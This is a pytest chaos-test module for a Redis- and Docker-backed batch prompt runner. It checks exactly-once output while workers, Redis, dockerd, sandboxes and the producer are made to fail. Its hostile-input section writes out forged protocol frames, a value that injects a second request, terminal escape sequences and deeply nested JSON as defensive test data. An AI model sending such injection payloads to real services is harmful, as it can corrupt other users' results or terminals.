"""Nothing lost: every prompt gets exactly one output record while things break (issue 6).

Each test breaks something real (a worker, Redis, the network path to it, the Docker engine,
the sandbox, the producer, the input) during a batch, then reads the output record by record:
as many records as input lines, no duplicate id, no missing id, input order, and which are ok
and which are errors. The time to recover is measured from the fault to the moment the batch
makes progress again (or to the resend, where that is the bound in question). Each scenario
adds a row to ``artifacts/chaos-report.md``.

Run them with ``python3 -m pytest tests/test_chaos.py -m chaos``. Deadlines are generous:
other test runs may share the machine.
"""

from __future__ import annotations

import json
import signal
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from .fixtures_chaos import (
    DEFAULT_PROMPTS,
    Cluster,
    PrivateDockerd,
    RedisInstance,
    Report,
    RssSampler,
    TcpProxy,
    chaos_report,
    check_output,
    cluster_factory,
    descendants,
    journal_chunks,
    make_tls_files,
    private_dockerd,
    read_output,
    redis_factory,
    wait_for,
    write_prompts,
)

__all__ = ["chaos_report", "cluster_factory", "private_dockerd", "redis_factory"]  # fixtures used below

pytestmark = [pytest.mark.chaos, pytest.mark.cluster]

# Longer prompts where the fault must land mid-batch however fast the machine is: the engine
# does ~10,000 (MEDIUM) or ~4,000 (HEAVY) of them a second per core, against ~40,000 short ones.
MEDIUM = [" ".join([text] * 10) for text in DEFAULT_PROMPTS]
HEAVY = [" ".join([text] * 30) for text in DEFAULT_PROMPTS]

RedisFactory = Callable[..., RedisInstance]
ClusterFactory = Callable[..., Cluster]


def progress_after(out: Path, written: int, timeout: float, what: str) -> float:
    """Wait until the batch writing ``out`` has written more than ``written`` chunks; return when."""
    wait_for(lambda: journal_chunks(out) > written, timeout, what, interval=0.05)
    return time.monotonic()


def local_cluster(redis_factory: RedisFactory, cluster_factory: ClusterFactory, workers: int = 2,
                  **options: Any) -> tuple[RedisInstance, Cluster]:  # fmt: skip
    server = redis_factory(**options)
    cluster = cluster_factory(server.url(), server.client)
    started = [cluster.worker(f"w{n}", wait=False) for n in range(1, workers + 1)]
    for worker in started:
        cluster.wait_registered(worker, f"local@{worker.name}")
    return server, cluster


def proxied_cluster(redis_factory: RedisFactory, cluster_factory: ClusterFactory,
                    results_direct: bool = False) -> tuple[TcpProxy, Cluster]:  # fmt: skip
    """Two local workers and the producer reaching Redis through a proxy the test can cut."""
    server = redis_factory()
    proxy = TcpProxy(server.port).start()
    env = {"HERMES_RESULT_BACKEND": server.url()} if results_direct else {}
    cluster = cluster_factory(server.url(port=proxy.port), server.client, **env)
    for worker in [cluster.worker("w1", wait=False), cluster.worker("w2", wait=False)]:
        cluster.wait_registered(worker, f"local@{worker.name}")
    return proxy, cluster


def session_containers_of(docker_client: Any, worker_pid: int) -> list[Any]:
    """The sandbox containers owned by the processes of one worker (other tests may run their own)."""
    pids = {str(pid) for pid in [worker_pid, *descendants(worker_pid)]}
    found = docker_client.containers.list(all=True, filters={"label": "hermes.session=1"}, ignore_removed=True)
    return [c for c in found if c.labels.get("hermes.pid") in pids]


@pytest.fixture
def container_env(sandbox_image: Any) -> dict[str, str]:
    return {"HERMES_SANDBOX_IMAGE": sandbox_image.tag}


# 1. A worker killed outright ------------------------------------------------------------------


def test_kill_9_one_of_two_workers_mid_batch(
    redis_factory: RedisFactory, cluster_factory: ClusterFactory, chaos_report: Report, tmp_path: Path
) -> None:
    """50,000 prompts (the spec's size) on two workers; one is killed with SIGKILL mid-batch.

    The bound: a killed worker's chunks are sent again within three heartbeats (its registry
    entry expires) plus one producer health check (1 s): 4 s with HERMES_HEARTBEAT=1, 16 s
    with the default 5 s. Chunks it had reserved but not announced are sent again too, so
    nothing waits for the broker's visibility timeout (150 s). Asserted here with room for a
    loaded machine: 20 s.
    """
    _server, cluster = local_cluster(redis_factory, cluster_factory)
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    ids = write_prompts(src, 50_000, HEAVY)
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "local", "--chunk-size", "250")
    wait_for(lambda: journal_chunks(out) >= 20, 120, "the batch to get going")

    killed = time.time()
    cluster.workers[0].kill()
    resent_at = wait_for(lambda: cluster.logged_at("dispatch.reroute", "is gone"), 60, "the lost chunks sent again")
    resent = resent_at - killed

    assert batch.wait(300) == 0, batch.stderr
    outcome = check_output(out, ids)
    outcome.assert_exactly_once()
    assert outcome.errors == 0
    assert resent < 20, f"lost chunks were sent again only after {resent:.1f} s"
    assert outcome.by("worker")["local@w2"] > outcome.by("worker")["local@w1"] > 0
    chaos_report.add("1. kill -9 one of two workers", outcome, resent,
                     f"lost chunks resent {resent:.1f} s after the kill (bound 3 heartbeats + 1 s){_healed(cluster)}")


# 2. Redis restarted ---------------------------------------------------------------------------------


def test_redis_restarted_mid_batch(
    redis_factory: RedisFactory, cluster_factory: ClusterFactory, chaos_report: Report, tmp_path: Path
) -> None:
    """30,000 prompts on two workers; Redis (append-only) is stopped for 3 s and started again.

    Workers and producer reconnect and the batch completes. Then a second batch proves that
    both workers still consume (Celery has had bugs where a worker silently stopped consuming
    after a Redis reconnect).
    """
    server, cluster = local_cluster(redis_factory, cluster_factory)
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    ids = write_prompts(src, 30_000, MEDIUM)
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "local", "--chunk-size", "200")
    wait_for(lambda: journal_chunks(out) >= 15, 120, "the batch to get going")

    stopped = time.monotonic()
    server.stop(signal.SIGTERM)
    written = journal_chunks(out)
    time.sleep(3)
    server.start()
    recovered = progress_after(out, written, 120, "the batch to move again after the restart") - stopped

    assert batch.wait(300) == 0, batch.stderr
    outcome = check_output(out, ids)
    outcome.assert_exactly_once()
    assert outcome.errors == 0
    _both_workers_still_consume(cluster, tmp_path, "after-restart")
    chaos_report.add("2. Redis restarted mid-batch (AOF on, 3 s down)", outcome, recovered,
                     f"time from the stop; both workers consume afterwards{_healed(cluster)}")  # fmt: skip


SAFETY_NETS = {
    "event loop blocked in a pub/sub read": "worker event loop freed",
    "neither queued nor held by any worker": "stranded chunks resent",
    "pool process(es) told to go": "stuck warm shutdown unblocked",
    "is gone or stopped taking this work": "chunks of a vanished worker resent",
}


def _healed(cluster: Cluster) -> str:
    """Which of the workers' and producer's safety nets fired during the test, for the report."""
    fired = [f"{label} {n}x" for text, label in SAFETY_NETS.items() if (n := cluster.logged(text))]
    return f" ({', '.join(fired)})" if fired else ""


def _both_workers_still_consume(cluster: Cluster, tmp_path: Path, name: str) -> None:
    src, out = tmp_path / f"{name}.jsonl", tmp_path / f"{name}-out.jsonl"
    ids = write_prompts(src, 4_000)
    again = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "local", "--chunk-size", "50")
    assert again.wait(180) == 0, again.stderr
    outcome = check_output(out, ids)
    outcome.assert_exactly_once()
    workers = outcome.by("worker")
    assert workers["local@w1"] > 0 and workers["local@w2"] > 0, f"a worker stopped consuming: {dict(workers)}"


# 3. Redis unreachable ----------------------------------------------------------------------------------


def test_redis_unreachable_for_30_seconds_mid_batch(
    redis_factory: RedisFactory, cluster_factory: ClusterFactory, chaos_report: Report, tmp_path: Path
) -> None:
    """20,000 prompts; every connection to Redis is reset and refused for 30 s, Redis keeps its data.

    Everything (workers, producer) reaches Redis through a proxy that the test cuts. Workers
    keep retrying their results, the producer keeps reading, and the batch completes after
    Redis is reachable again; both workers consume afterwards.
    """
    proxy, cluster = proxied_cluster(redis_factory, cluster_factory)
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    ids = write_prompts(src, 20_000, MEDIUM)
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "local", "--chunk-size", "100")
    wait_for(lambda: journal_chunks(out) >= 10, 120, "the batch to get going")

    proxy.cut()
    written = journal_chunks(out)
    time.sleep(30)
    assert journal_chunks(out) == written  # nothing can be written while Redis is unreachable
    proxy.restore()
    restored = time.monotonic()
    recovered = progress_after(out, written, 120, "the batch to move again") - restored

    assert batch.wait(300) == 0, batch.stderr
    outcome = check_output(out, ids)
    outcome.assert_exactly_once()
    assert outcome.errors == 0
    assert "is not answering" in batch.stderr and "answers again" in batch.stderr
    _both_workers_still_consume(cluster, tmp_path, "after-outage")
    chaos_report.add("3. Redis unreachable 30 s mid-batch", outcome, recovered,
                     f"time from Redis reachable again; both workers consume afterwards{_healed(cluster)}")


def test_broker_unreachable_while_the_producer_sends(
    redis_factory: RedisFactory, cluster_factory: ClusterFactory, chaos_report: Report, tmp_path: Path
) -> None:
    """The broker path alone goes away for 10 s while results still arrive: sending retries.

    Broker and results are on different paths (HERMES_RESULT_BACKEND), so during the outage the
    producer keeps receiving results and keeps wanting to send chunks: every send must wait
    for the broker (with back-off) instead of failing the batch. 40,000 prompts in chunks of
    1,000, so that workers are in the middle of a chunk when the broker goes.
    """
    # Results and registry go straight to Redis; only the broker path passes the proxy.
    proxy, cluster = proxied_cluster(redis_factory, cluster_factory, results_direct=True)
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    ids = write_prompts(src, 40_000, MEDIUM)
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "local", "--chunk-size", "1000")
    wait_for(lambda: journal_chunks(out) >= 3, 120, "the batch to get going")

    proxy.cut()
    wait_for(lambda: batch.first_line_with("the broker is not answering"), 60, "a send to meet the outage")
    time.sleep(10)
    proxy.restore()
    restored = time.monotonic()
    written = journal_chunks(out)
    recovered = progress_after(out, written, 120, "the batch to move again") - restored

    assert batch.wait(300) == 0, batch.stderr
    outcome = check_output(out, ids)
    outcome.assert_exactly_once()
    assert outcome.errors == 0
    chaos_report.add("3b. broker unreachable 10 s while sending (results Redis up)", outcome, recovered,
                     f"send_task retried with back-off{_healed(cluster)}")  # fmt: skip


def test_redis_down_at_submit(redis_factory: RedisFactory, cluster_factory: ClusterFactory, chaos_report: Report,
                              tmp_path: Path) -> None:  # fmt: skip
    """No Redis at submit: in-process with a notice, or exit 3 with a clear error (--no-fallback)."""
    server = redis_factory()
    cluster = cluster_factory(server.url(), server.client)
    server.stop()
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    ids = write_prompts(src, 2_000)

    fallback = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "local")
    assert fallback.wait(120) == 0, fallback.stderr
    assert "is not answering" in fallback.stderr and "in-process" in fallback.stderr
    outcome = check_output(out, ids)
    outcome.assert_exactly_once()
    assert all(w.startswith("embedded@") for w in outcome.by("worker"))

    strict_out = tmp_path / "strict.jsonl"
    strict = cluster.hermes("batch", str(src), "-o", str(strict_out), "--no-fallback")
    assert strict.wait(60) == 3
    assert "is not answering" in strict.stderr and "--no-fallback" in strict.stderr
    assert not strict_out.exists()
    chaos_report.add("3c. Redis down at submit", outcome, None,
                     "in-process with a notice; --no-fallback exits 3 naming the broker")  # fmt: skip


# 4. The Docker engine stopped ----------------------------------------------------------------------


def _container_worker_on(cluster: Cluster, dockerd: PrivateDockerd, image: str, name: str = "c1") -> Any:
    env = {"DOCKER_HOST": dockerd.host, "HERMES_SANDBOX_IMAGE": image}
    return cluster.worker(name, mode="auto", env=env, expect_tag="container")


def _serving(cluster: Cluster, node: str, queue: str = "hermes.container") -> bool:
    entry = cluster.entry(node)
    return entry is not None and queue in entry["queues"]


@pytest.mark.docker
@pytest.mark.timeout(400)
def test_dockerd_stopped_mid_batch_with_isolation_auto(
    private_dockerd: PrivateDockerd, sandbox_image: Any, redis_factory: RedisFactory,
    cluster_factory: ClusterFactory, chaos_report: Report, tmp_path: Path,
) -> None:  # fmt: skip
    """A container worker's Docker engine (a private dockerd) stops during a 50,000-prompt batch.

    With ``--isolation auto`` the worker notices (every heartbeat it pings its engine), stops
    consuming hermes.container and says why in its registry entry; the producer re-routes what
    is outstanding to the local worker. Every record's provenance says where it really ran:
    container records carry the sandbox image, local records a local worker.
    """
    if private_dockerd.process is None:
        private_dockerd.start()
    server = redis_factory()
    cluster = cluster_factory(server.url(), server.client)
    _container_worker_on(cluster, private_dockerd, sandbox_image.tag)
    cluster.worker("l1")
    image = cluster.entry("container@c1")["provenance"]["image"]  # type: ignore[index]
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    ids = write_prompts(src, 50_000, MEDIUM)  # the sandbox works on until the engine has stopped: seconds
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "auto", "--chunk-size", "100")
    wait_for(lambda: journal_chunks(out) >= 10, 120, "the batch to get going")

    stopped = time.time()
    private_dockerd.stop()
    rerouted = wait_for(lambda: cluster.logged_at("dispatch.reroute", "re-routed to local"), 120, "a re-route")
    recovered = rerouted - stopped

    assert batch.wait(300) == 0, batch.stderr
    outcome = check_output(out, ids)
    outcome.assert_exactly_once()
    assert outcome.errors == 0, outcome.error_codes()
    for record in outcome.records:
        where = record["provenance"]
        if where["mode"] == "container":
            assert where["worker"] == "container@c1" and where["image"] == image, where
        else:
            assert where["mode"] == "local" and where["worker"] == "local@l1" and where["image"] is None, where
    modes = outcome.by("mode")
    assert modes["container"] > 0 and modes["local"] > 0
    entry = cluster.entry("container@c1")
    assert entry is not None and entry["queues"] == [] and "Docker engine lost" in entry["probe"]["reason"]
    chaos_report.add("4a. dockerd stopped mid-batch, --isolation auto", outcome, recovered,
                     f"re-routed to local@l1; {modes['container']:,} records container, {modes['local']:,} local")


@pytest.mark.docker
@pytest.mark.timeout(400)
def test_dockerd_stopped_mid_batch_with_isolation_container(
    private_dockerd: PrivateDockerd, sandbox_image: Any, redis_factory: RedisFactory,
    cluster_factory: ClusterFactory, chaos_report: Report, tmp_path: Path,
) -> None:  # fmt: skip
    """With ``--isolation container`` nothing runs outside a container when the engine stops.

    First the engine comes back within --wait-for-workers: the worker re-probes, consumes
    hermes.container again and the batch completes with every record from the sandbox. Then
    it stays away: the batch exits 3 naming why, and its partial output holds only container
    records. 100,000 prompts each: the engine takes seconds to stop, the sandbox works on until
    it has, and the batch must still be running then.
    """
    if private_dockerd.process is None:
        private_dockerd.start()
    server = redis_factory()
    cluster = cluster_factory(server.url(), server.client)
    _container_worker_on(cluster, private_dockerd, sandbox_image.tag)
    cluster.worker("l1")  # a local worker that must get none of this work
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    ids = write_prompts(src, 100_000, MEDIUM)
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "container", "--chunk-size", "100",
                           "--wait-for-workers", "120")  # fmt: skip
    wait_for(lambda: journal_chunks(out) >= 10, 120, "the batch to get going")

    private_dockerd.stop()
    wait_for(lambda: not _serving(cluster, "container@c1"), 60, "the worker to stop taking container work")
    written = journal_chunks(out)
    time.sleep(3)
    private_dockerd.start()
    restarted = time.monotonic()
    wait_for(lambda: _serving(cluster, "container@c1"), 120, "the worker to take container work again")
    recovered = progress_after(out, written, 120, "the batch to move again") - restarted

    assert batch.wait(300) == 0, batch.stderr
    outcome = check_output(out, ids)
    outcome.assert_exactly_once()
    assert outcome.errors == 0, outcome.error_codes()
    assert outcome.by("mode") == {"container": len(ids)} and outcome.by("worker") == {"container@c1": len(ids)}
    chaos_report.add("4b. dockerd stopped 3 s, --isolation container", outcome, recovered,
                     "waited, worker re-probed and resumed; every record from the sandbox")  # fmt: skip

    # The engine stays away: exit 3 with the reason; nothing ran unisolated.
    src2, out2 = src, tmp_path / "out2.jsonl"
    ids2 = ids
    batch2 = cluster.hermes("batch", str(src2), "-o", str(out2), "--isolation", "container", "--chunk-size", "100",
                            "--wait-for-workers", "8")  # fmt: skip
    wait_for(lambda: journal_chunks(out2) >= 10, 120, "the second batch to get going")
    private_dockerd.stop()
    assert batch2.wait(300) == 3, batch2.stderr
    assert "no live container worker" in batch2.stderr and "Docker engine lost" in batch2.stderr
    partial = read_output(out2.with_name(out2.name + ".partial"))
    assert 0 < len(partial) < len(ids2) and {r["provenance"]["mode"] for r in partial} == {"container"}
    assert [r["id"] for r in partial] == ids2[: len(partial)]
    chaos_report.add("4c. dockerd stopped for good, --isolation container", None, None,
                     f"exit 3 naming the lost engine; {len(partial):,} records written, all from the sandbox, "
                     "the rest left for --resume", items_in=len(ids2))  # fmt: skip


# 5. The sandbox killed, and a prompt that exhausts its memory -------------------------------------


@pytest.mark.docker
def test_sandbox_killed_and_a_poison_item_mid_batch(
    sandbox_image: Any, docker_client: Any, redis_factory: RedisFactory, cluster_factory: ClusterFactory,
    chaos_report: Report, tmp_path: Path,
) -> None:  # fmt: skip
    """6,000 prompts in containers limited to 128 MiB; the sandbox is killed, and one 8 MB prompt
    exhausts its memory. The session is recreated, the chunk retried, the poison item isolated
    as the only error."""
    server = redis_factory()
    env = {"HERMES_CONTAINER_MEMORY": "128m", "HERMES_MAX_PROMPT_BYTES": "16000000"}
    cluster = cluster_factory(server.url(), server.client, HERMES_SANDBOX_IMAGE=sandbox_image.tag, **env)
    worker = cluster.worker("c1", mode="container", expect_tag="container")
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    ids = write_prompts(src, 6_000)
    lines = src.read_text(encoding="utf-8").splitlines()
    poison_line = 4_001
    lines[poison_line - 1] = json.dumps({"id": ids[poison_line - 1], "prompt": "é\u0301a\u200b" * 1_200_000})
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--chunk-size", "100")
    wait_for(lambda: journal_chunks(out) >= 5, 120, "the batch to get going")

    [container] = wait_for(lambda: [c for c in session_containers_of(docker_client, worker.process.pid)
                                    if c.status == "running"], 30, "the session container")  # fmt: skip
    client = server.client()

    def restarts() -> int:
        return int(client.hget("hermes:metrics:container@c1", "session_restarts") or 0)

    container.kill()
    killed = time.monotonic()
    # Counted when the chunk that was in flight is published, after its retry in a new container.
    recovered = wait_for(lambda: restarts() >= 1 and time.monotonic(), 120, "the chunk to be retried") - killed

    assert batch.wait(300) == 1, batch.stderr
    outcome = check_output(out, ids)
    outcome.assert_exactly_once()
    [poison] = [r for r in outcome.records if "error" in r]
    assert poison["line"] == poison_line and poison["error"]["code"] == "sandbox_failure"
    assert "out-of-memory" in poison["error"]["message"]
    assert outcome.by("mode") == {"container": len(ids)}
    assert restarts() >= 2, restarts()  # the kill, then the poison item's deaths
    chaos_report.add("5. sandbox killed + an item exhausting its memory", outcome, recovered,
                     f"one error: the poison line (sandbox_failure, OOM); {restarts()} session restarts; "
                     "time from the kill to the killed chunk's result")  # fmt: skip


# 6. The producer killed ------------------------------------------------------------------------------


def test_producer_killed_twice_and_resumed(
    redis_factory: RedisFactory, cluster_factory: ClusterFactory, chaos_report: Report, tmp_path: Path
) -> None:
    """30,000 prompts; the producer is killed with SIGKILL twice and resumed with --resume each time.

    (tests/test_cluster.py kills it once; here twice, the second time during a resumed run.)
    """
    _server, cluster = local_cluster(redis_factory, cluster_factory)
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    ids = write_prompts(src, 30_000, HEAVY)
    command = ["batch", str(src), "-o", str(out), "--isolation", "local", "--chunk-size", "100"]
    first = cluster.hermes(*command)
    wait_for(lambda: journal_chunks(out) >= 30, 120, "the batch to get going")
    first.kill()
    second = cluster.hermes(*command, "--resume")
    wait_for(lambda: journal_chunks(out) >= 120, 120, "the resumed batch to move")
    second.kill()
    written = journal_chunks(out)
    third = cluster.hermes(*command, "--resume")
    recovered = progress_after(out, written, 120, "the second resume to move") - third.started

    assert third.wait(300) == 0, third.stderr
    assert "resuming after" in third.stderr
    outcome = check_output(out, ids)
    outcome.assert_exactly_once()
    assert outcome.errors == 0
    chaos_report.add("6. producer kill -9 twice, --resume", outcome, recovered,
                     "time from the resumed producer's start to its first chunk written")  # fmt: skip


# 7. A worker stopped with SIGTERM -----------------------------------------------------------------


@pytest.mark.docker
def test_worker_sigterm_mid_batch_finishes_its_chunk_and_leaves_no_container(
    container_env: dict[str, str], docker_client: Any, redis_factory: RedisFactory,
    cluster_factory: ClusterFactory, chaos_report: Report, tmp_path: Path,
) -> None:  # fmt: skip
    """10,000 prompts on two container workers; one gets SIGTERM mid-batch.

    Warm shutdown: it finishes (or returns) its chunk, exits 0, and removes its sandbox container.
    (Workers start one after the other: two container workers starting at once on one host can
    race to reap the same orphaned container, and the loser's probe fails.)
    """
    server = redis_factory()
    cluster = cluster_factory(server.url(), server.client, **container_env)
    c1 = cluster.worker("c1", mode="container", expect_tag="container")
    cluster.worker("c2", mode="container", expect_tag="container")
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    ids = write_prompts(src, 10_000, MEDIUM)
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "container", "--chunk-size", "100")
    wait_for(lambda: journal_chunks(out) >= 10, 120, "the batch to get going")
    mine = wait_for(lambda: session_containers_of(docker_client, c1.process.pid), 30, "c1's sandbox container")

    c1.process.send_signal(signal.SIGTERM)
    termed = time.monotonic()
    assert c1.process.wait(timeout=90) == 0, c1.log[-3000:]
    exited = time.monotonic() - termed

    assert batch.wait(300) == 0, batch.stderr
    outcome = check_output(out, ids)
    outcome.assert_exactly_once()
    assert outcome.errors == 0
    assert outcome.by("mode") == {"container": len(ids)}
    assert outcome.by("worker")["container@c2"] > 0
    left = docker_client.containers.list(all=True, filters={"label": "hermes.session=1"}, ignore_removed=True)
    assert not {c.id for c in mine} & {c.id for c in left}, "the stopped worker left its container behind"
    assert cluster.entry("container@c1") is None
    chaos_report.add("7. worker SIGTERM mid-batch", outcome, exited,
                     f"warm shutdown: exit 0 in the time shown, its container removed{_healed(cluster)}")


# 8. A chunk delivered twice ----------------------------------------------------------------------------


def test_a_chunk_delivered_twice_is_written_once(
    redis_factory: RedisFactory, cluster_factory: ClusterFactory, chaos_report: Report, tmp_path: Path
) -> None:
    """10,000 prompts on two workers; 20 queued chunk messages are pushed into the queue a second time.

    Half go to the head of the queue (the copy may run while its original still does), half to
    the tail (the copy comes after the original was written, and finds the chunk's lines gone).
    Every copy is taken; the output has each record once.
    """
    server, cluster = local_cluster(redis_factory, cluster_factory, workers=2)
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    ids = write_prompts(src, 10_000, MEDIUM)
    client = server.client()
    copied: list[bytes] = []
    done = threading.Event()

    def duplicate() -> None:
        while not done.is_set() and len(copied) < 20:
            queued: list[bytes] = client.lrange("hermes.local", 0, -1)  # type: ignore[assignment]
            for message in queued:
                if message not in copied and len(copied) < 20:
                    # kombu pushes on the left and workers pop on the right.
                    (client.rpush if len(copied) % 2 else client.lpush)("hermes.local", message)
                    copied.append(message)
            time.sleep(0.02)

    duplicator = threading.Thread(target=duplicate, daemon=True)
    duplicator.start()
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "local", "--chunk-size", "100")
    assert batch.wait(300) == 0, batch.stderr
    done.set()
    duplicator.join()

    outcome = check_output(out, ids)
    outcome.assert_exactly_once()
    assert outcome.errors == 0
    assert len(copied) == 20

    def handled(kind: str) -> int:
        entries: list[tuple[bytes, dict[bytes, bytes]]] = client.xrange("hermes:events")  # type: ignore[assignment]
        return sum(1 for _id, fields in entries if json.loads(fields[b"r"]).get("event") == kind)

    # Every copy is taken by the worker: one whose original is still outstanding runs again; one
    # whose original was written already finds the chunk's lines deleted by the producer and says
    # so. Two workers, so that a copy at the head is taken while its original still runs.
    wait_for(lambda: handled("chunk.succeeded") + handled("chunk.lines_missing") >= 100 + 20, 120,
             "every copy to be taken")  # fmt: skip
    reruns, late = handled("chunk.succeeded") - 100, handled("chunk.lines_missing")
    assert reruns + late >= len(copied) and reruns > 0, (reruns, late)
    chaos_report.add("8. the same chunk delivered twice", outcome, None,
                     f"{len(copied)} messages duplicated in the queue: {reruns} ran again while outstanding, "
                     f"{late} came after the chunk was written (lines already deleted); written once")  # fmt: skip


# 9. Corrupted input -----------------------------------------------------------------------------------


BAD_KINDS: list[tuple[str, Callable[[int], bytes]]] = [
    ("invalid_utf8", lambda n: b'{"id": "b%d", "prompt": "caf\xe9 \xff\xfe"}' % n),
    ("malformed_json", lambda n: b'{"id": "b%d", "prompt": "unterminated' % n),
    ("too_large", lambda n: json.dumps({"id": f"b{n}", "prompt": "x" * 3000}).encode()),
    ("too_large", lambda n: b'{"id": "b%d", "prompt": "' % n + b"y" * 100_000 + b'"}'),  # over the line cap
    ("nul_byte", lambda n: json.dumps({"id": f"b{n}", "prompt": "nul \x00 inside"}).encode()),
    ("malformed_json", lambda n: b'{"id": "b%d", "prompt": "raw \x00 byte"}' % n),
    ("prompt_not_string", lambda n: b'{"id": "b%d", "prompt": 42}' % n),
    ("prompt_not_string", lambda n: b'{"id": "b%d", "prompt": null}' % n),
    ("prompt_not_string", lambda n: b'{"id": "b%d", "prompt": ["a", "list"]}' % n),
    ("not_an_object", lambda n: b'["b%d", "an array"]' % n),
    ("missing_prompt", lambda n: b'{"id": "b%d", "text": "no prompt"}' % n),
    ("malformed_json", lambda n: b""),  # a blank line
]


def test_100000_lines_with_1_percent_corrupted(
    redis_factory: RedisFactory, cluster_factory: ClusterFactory, chaos_report: Report, tmp_path: Path
) -> None:
    """100,000 lines (the spec's size), every 100th corrupted in one of twelve ways.

    Exactly 100,000 records in input order; each bad line an error record with its line number
    and the right code, every other line ok. Prompts are limited to 2,048 bytes for this run.
    """
    _server, cluster = local_cluster(redis_factory, cluster_factory)
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    expected: dict[int, str] = {}
    with src.open("wb") as handle:
        for line in range(1, 100_001):
            if line % 100 == 0:
                code, make = BAD_KINDS[(line // 100) % len(BAD_KINDS)]
                expected[line] = code
                handle.write(make(line) + b"\n")
            else:
                handle.write(json.dumps({"id": f"p{line}", "prompt": f"cafÃ© line {line}  "}).encode() + b"\n")
    batch = cluster.hermes("batch", str(src), "-o", str(out), "--isolation", "local", "--chunk-size", "500",
                           "--max-prompt-bytes", "2048")  # fmt: skip
    assert batch.wait(300) == 1, batch.stderr  # exit 1: some items failed

    records = read_output(out)
    assert len(records) == 100_000
    assert [r["line"] for r in records] == list(range(1, 100_001))
    for record in records:
        line = record["line"]
        if line in expected:
            assert "error" in record and record["error"]["code"] == expected[line], record
            assert record["error"]["line"] == line
        else:
            assert record["id"] == f"p{line}" and record["text"] == f"café line {line}", record
    ids = [json.dumps(r["id"]) for r in records]
    assert len(set(ids)) == len(ids), "duplicate ids in the output"
    outcome = check_output(out, [r["id"] for r in records])
    assert outcome.errors == len(expected) == 1_000
    chaos_report.add("9. 100,000 lines, 1% corrupted (12 kinds)", outcome, None,
                     "each bad line an error with its line number and code")  # fmt: skip


# 10. Hostile input --------------------------------------------------------------------------------


# What hostile_prompts() lines become, in order: only the NUL one, the unparseable and the
# over-nested are errors; everything else is normalized like any prompt.
HOSTILE_CODES = ["ok", "nul_byte", "ok", "ok", "ok", "ok", "ok", "ok", "ok", "ok", "ok",
                 "malformed_json", "malformed_json", "malformed_json"]  # fmt: skip


def hostile_prompts(prefix: str) -> list[bytes]:
    """Lines that try to break the framing, the terminal, the reader or memory; ids start with ``prefix``."""
    reply = json.dumps({"id": 2, "ok": True, "result": {"v": 2, "chunk": 0, "lines": ['{"id":"pwned"}'], "ok": 1,
                                                         "failed": 0, "errors": []}})  # fmt: skip
    frame_like = [
        "\x7f\x7f\x7f\x7f" + reply,  # our frame: a length, then a reply
        "\x00\x00\x01\x00" + reply,  # the same with NULs (refused: nul_byte)
        "\x01\x01\x01\x01\x01\x01\x01\x40" + reply,  # Docker's stream header
        f"{len(reply)}\n{reply}\n" * 50,  # newline-delimited replies
        '"}]}\n{"op":"chunk","id":99,"payload":{}}',  # tries to end a JSON string and a request
        "\u2028\u2029\x85" + reply,  # line breaks JSON allows raw
    ]
    terminal = ["\x1b[2J\x1b[H\x1b]0;pwned\x07 clear screen", "\x1b[31mred\x1b[0m \x1b[6n \x9b31m C1 CSI",
                "\x1bP+q6b31\x1b\\ DCS", "bell\x07\x07\x07 backspace\b\b\b"]  # fmt: skip
    items = [*frame_like, *terminal, ("\x7f\x7f\x7f\x7f" + reply) * 3000]  # the last one: near the size limit
    lines = [json.dumps({"id": f"{prefix}{n}", "prompt": text}).encode() for n, text in enumerate(items)]
    lines.append(b'{"id": "%sdeep", "prompt": ' % prefix.encode() + b"[" * 100_000 + b"]" * 100_000 + b"}")
    lines.append(b"[" * 500_000)
    lines.append(b'{"id": "%smeta", "prompt": "fine", "meta": ' % prefix.encode() + b'{"a": ' * 5_000 + b"1"
                 + b"}" * 5_000 + b"}")  # fmt: skip
    return lines


@pytest.mark.docker
@pytest.mark.timeout(400)
def test_hostile_input_crashes_nothing_leaks_nothing_and_memory_stays_bounded(
    container_env: dict[str, str], docker_client: Any, redis_factory: RedisFactory, cluster_factory: ClusterFactory,
    chaos_report: Report, tmp_path: Path,
) -> None:  # fmt: skip
    """3,000 ordinary prompts with hostile items between them, and one 100 MB line, in containers.

    Items imitate the sandbox protocol's framing and Docker's stream headers, carry terminal
    escapes, nest JSON 100,000 deep; one line is 100 MB. No worker crashes; every record is
    what the engine gives in-process for that line, field for field (nothing leaks into a
    neighbour); peak memory of the producer and of the worker's processes stays bounded.
    """
    server = redis_factory()
    cluster = cluster_factory(server.url(), server.client, **container_env)
    worker = cluster.worker("c1", mode="container", expect_tag="container")
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    hostile = hostile_prompts("h-")
    lines_written = 0
    with src.open("wb") as handle:

        def line(data: bytes) -> int:
            nonlocal lines_written
            handle.write(data + b"\n")
            lines_written += 1
            return lines_written

        for n in range(3_000):
            line(json.dumps({"id": f"p{n}", "prompt": f"neighbour {n}: cafÃ©"}).encode())
            if n % 200 == 100:
                line(hostile_prompts(f"h{n}-")[(n // 200) % len(hostile)])
            if n == 1_500:
                huge_line = line(b'{"id": "huge", "prompt": "' + b"A" * (100 << 20) + b'"}')
        for data in hostile:
            line(data)
